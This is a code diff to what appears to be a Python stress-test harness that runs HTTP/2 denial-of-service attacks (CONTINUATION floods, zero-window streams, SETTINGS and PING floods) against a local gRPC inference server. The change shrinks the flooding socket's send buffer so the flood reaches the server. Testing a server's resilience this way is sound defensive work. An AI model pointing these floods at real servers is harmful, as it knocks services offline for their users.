@@ -14,7 +14,10 @@ client sharing an interpreter with the attacker):
 - CONTINUATION flood: one HEADERS without END_HEADERS, then CONTINUATION frames of
   headers that never end, on connection after connection for the whole attack (bounded
   by CONTINUATION_BYTES: at 256 MB it was over in 0.3 s, and the canary's "p99" was the
-  largest of its ~70 calls);
+  largest of its ~70 calls). Its sockets have a small send buffer, so that what it sends
+  is what the server reads: with the kernel's (grown to 4 MB) it copied 3 MB into each
+  connection's buffer before the server's close reached it, a process spinning on its
+  own memcpy, which on 2 cores measured the canary's share of CPU, not the server;
 - zero-window streams: SETTINGS_INITIAL_WINDOW_SIZE 0, 20,000 ServerLive streams whose
   answers the server cannot send, then 13-byte WINDOW_UPDATEs of 1 byte;
 - SETTINGS flood and PING flood from a client that never reads (each wants an ACK);
@@ -59,6 +62,7 @@ LIVE_PATH = "/inference.GRPCInferenceService/ServerLive"
 
 RAPID_RESET_STREAMS = 200_000       # at most, per attack
 CONTINUATION_BYTES = 4 << 30        # at most, per attack
+FLOOD_SEND_BUFFER = 64 << 10        # the flood's bytes go to the server, not into our buffer
 ZERO_WINDOW_STREAMS = 20_000
 CONTROL_FRAMES = 2_000_000          # SETTINGS or PING frames at most, per attack
 IDLE_CONNECTIONS = 600
@@ -107,10 +111,16 @@ class Attacker:
         self.write_blocked = 0
         self.refused = 0
 
-    def connect(self, settings: bytes = b"", preface: bool = True,
-                drain: bool = True) -> socket.socket | None:
+    def connect(self, settings: bytes = b"", preface: bool = True, drain: bool = True,
+                send_buffer: int = 0) -> socket.socket | None:
+        """`send_buffer`: the socket's send buffer in bytes (0: the kernel's, which grows to
+        4 MB: a flood then mostly copies into a buffer the server never reads)."""
         try:
-            sock = socket.create_connection(("127.0.0.1", self.port), timeout=WRITE_TIMEOUT_S)
+            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            sock.settimeout(WRITE_TIMEOUT_S)
+            if send_buffer:
+                sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, send_buffer)
+            sock.connect(("127.0.0.1", self.port))
             if preface:
                 sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
         except OSError:
@@ -203,7 +213,7 @@ def continuation_flood(attacker: Attacker) -> str:
     continuation = frame(CONTINUATION, 0, 1, fragment)
     sent = 0
     while attacker.time_left() and sent < CONTINUATION_BYTES:
-        sock = attacker.connect(drain=False)
+        sock = attacker.connect(drain=False, send_buffer=FLOOD_SEND_BUFFER)
         if sock is None:
             time.sleep(0.05)
             continue
